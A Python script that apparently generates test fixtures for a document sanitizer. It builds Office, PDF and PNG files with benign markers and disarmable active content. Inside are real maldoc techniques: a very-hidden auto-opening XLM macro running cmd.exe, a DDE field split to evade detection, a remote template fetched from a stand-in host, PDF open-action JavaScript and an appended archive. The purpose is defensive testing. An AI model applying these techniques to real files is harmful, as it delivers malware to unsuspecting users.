"""Hostile files, made here and nowhere else: each carries a marker sentence a
reader must still find afterwards, and something active that must be gone.

usage: hostile.py FOLDER    writes one of each
"""
import functools
import io
import pathlib
import re
import subprocess
import sys
import tempfile
import zipfile

import vba

MARKER = "関所を越えた文 The sentence that crossed the checkpoint 42."
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MACRO_TYPE = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
LINES = [MARKER, "一行目：見積金額は￥1,234,567です。", "二行目：①㈱髙﨑 ～ 半角ｶﾅ", "Third line, plain."]


def docx(lines=LINES):
    import docx as python_docx
    document = python_docx.Document()
    document.add_heading("見積書", level=1)
    for line in lines:
        document.add_paragraph(line)
    table = document.add_table(rows=2, cols=2)
    for row, cells in zip(table.rows, (("品名", "数量"), ("机", "12"))):
        for cell, text in zip(row.cells, cells):
            cell.text = text
    return saved(document)


def xlsx(lines=LINES):
    import openpyxl
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "予算"
    for number, line in enumerate(lines, 1):
        sheet.cell(number, 1, line)
    sheet.column_dimensions["A"].width = 70
    sheet["A11"], sheet["A12"], sheet["A13"] = 12, 30.5, "=A11+A12"
    return saved(book)


def pptx(lines=LINES):
    import pptx as python_pptx
    show = python_pptx.Presentation()
    slide = show.slides.add_slide(show.slide_layouts[1])
    slide.shapes.title.text = "説明会"
    slide.placeholders[1].text_frame.text = "\n".join(lines)
    return saved(show)


def saved(document):
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def docm():
    """Word with a VBA project."""
    return with_macros(docx(), "word", "document", "wordprocessingml.document.main", "ms-word.document.macroEnabled.main")


def pptm():
    """PowerPoint with a VBA project."""
    return with_macros(pptx(), "ppt", "presentation", "presentationml.presentation.main", "ms-powerpoint.presentation.macroEnabled.main")


def with_macros(package, folder, main, plain, enabled):
    def edit(name, data):
        if name == "[Content_Types].xml":
            data = data.replace(f"application/vnd.openxmlformats-officedocument.{plain}+xml".encode(), f"application/vnd.{enabled}+xml".encode())
            entry = f'<Override PartName="/{folder}/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
            return data.replace(b"</Types>", entry.encode())
        if name == f"{folder}/_rels/{main}.xml.rels":
            return add_relationship(data, "rIdVba", MACRO_TYPE, "vbaProject.bin")
        return data
    return repacked(package, edit, {f"{folder}/vbaProject.bin": vba.project()})


def xlsm():
    """Excel with an XLM macro sheet that starts by itself."""
    macro = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
        '<sheetData><row r="1"><c r="A1"><f>EXEC("cmd.exe /c echo sekimori-testbed")</f><v>0</v></c></row>'
        '<row r="2"><c r="A2"><f>HALT()</f><v>0</v></c></row></sheetData></xm:macrosheet>').encode()

    def edit(name, data):
        if name == "[Content_Types].xml":
            data = data.replace(b"openxmlformats-officedocument.spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")
            return data.replace(b"</Types>", b'<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>')
        if name == "xl/_rels/workbook.xml.rels":
            return add_relationship(data, "rIdXlm", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml")
        if name == "xl/workbook.xml":
            sheet = f'<sheet xmlns:r="{RELATIONSHIPS}" name="Macro1" sheetId="99" state="veryHidden" r:id="rIdXlm"/></sheets>'.encode()
            names = b'<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames>'
            data = re.sub(rb"<definedNames\s*/>", b"", data)
            return data.replace(b"</sheets>", sheet + names)
        return data
    return repacked(xlsx(), edit, {"xl/macrosheets/sheet1.xml": macro})


def docx_template_dde():
    """Word that fetches its template, and a DDE field in pieces."""
    pieces = ["DD", "EAU", 'TO c:\\\\windows\\\\system32\\\\cmd.exe "/c echo ', 'sekimori-testbed"']
    field = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    field += "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    field += '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>12</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    settings = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="rId1" Type="{RELATIONSHIPS}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>').encode()

    def edit(name, data):
        if name == "word/document.xml":
            return data.replace(b"<w:sectPr", field.encode() + b"<w:sectPr", 1)
        if name == "word/settings.xml":
            return re.sub(rb"(<w:settings\b[^>]*>)", rf'\1<w:attachedTemplate xmlns:r="{RELATIONSHIPS}" r:id="rId1"/>'.encode(), data, count=1)
        return data
    return repacked(docx(), edit, {"word/_rels/settings.xml.rels": settings})


@functools.cache
def clean_pdf():
    """A PDF with Japanese text, as LibreOffice prints one."""
    with tempfile.TemporaryDirectory(prefix="skm-pdf-") as folder:
        source = pathlib.Path(folder, "text.docx")
        source.write_bytes(docx())
        return as_pdf(source, folder).read_bytes()


def as_pdf(source, folder):
    """LibreOffice's PDF of an office file; it reports success even when it failed."""
    made = pathlib.Path(folder, pathlib.Path(source).stem + ".pdf")
    made.unlink(missing_ok=True)
    subprocess.run(["soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless", "--norestore",
                    "--convert-to", "pdf", "--outdir", str(folder), str(source)], capture_output=True, timeout=180)
    if not made.exists():
        raise RuntimeError(f"LibreOffice made no PDF of {source}")
    return made


def pdf():
    """PDF with JavaScript on opening and an embedded file."""
    import pikepdf
    with pikepdf.open(io.BytesIO(clean_pdf())) as document:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('sekimori-testbed');")
        document.Root.OpenAction = document.make_indirect(script)
        document.attachments["payload.exe"] = b"MZ" + b"sekimori-testbed" * 8
        out = io.BytesIO()
        document.save(out)
        return out.getvalue()


def png():
    """A picture with an archive behind its end."""
    from PIL import Image, ImageDraw, PngImagePlugin
    picture = Image.new("RGB", (320, 200), "#fff8e0")
    drawing = ImageDraw.Draw(picture)
    drawing.rectangle((20, 20, 300, 180), outline="#803030", width=6)
    drawing.text((40, 90), "sekimori-testbed", fill="#204080")
    words = PngImagePlugin.PngInfo()
    words.add_text("Comment", "<script>sekimori-testbed</script>")
    out = io.BytesIO()
    picture.save(out, "PNG", pnginfo=words)
    return out.getvalue() + archive({"payload.exe": b"MZ" + b"\0" * 64})


def everything():
    """A ZIP of all of them, and a program."""
    return archive({"見積書.docm": docm(), "予算.xlsm": xlsm(), "依頼書.docx": docx_template_dde(), "案内.pdf": pdf(), "図面.png": png(),
                    "setup.exe": b"MZ" + b"\0" * 64})


def archive(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in members.items():
            made.writestr(name, data)
    return out.getvalue()


def add_relationship(data, number, kind, target):
    entry = f'<Relationship Id="{number}" Type="{kind}" Target="{target}"/></Relationships>'
    return data.replace(b"</Relationships>", entry.encode())


def repacked(package, edit, extra):
    """The package with each part edited and some added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for item in source.infolist():
            before = source.read(item)
            made.writestr(item.filename, edit(item.filename, before))
        for name, data in extra.items():
            made.writestr(name, data)
    return out.getvalue()


BUILDERS = {"docm": docm, "xlsm": xlsm, "pptm": pptm, "docx-template-dde": docx_template_dde, "pdf": pdf, "png": png, "zip": everything}
EXTENSIONS = {"docx-template-dde": "docx"}

if __name__ == "__main__":
    target = pathlib.Path(sys.argv[1])
    target.mkdir(parents=True, exist_ok=True)
    for name, build in BUILDERS.items():
        (target / f"{name}.{EXTENSIONS.get(name, name)}").write_bytes(build())
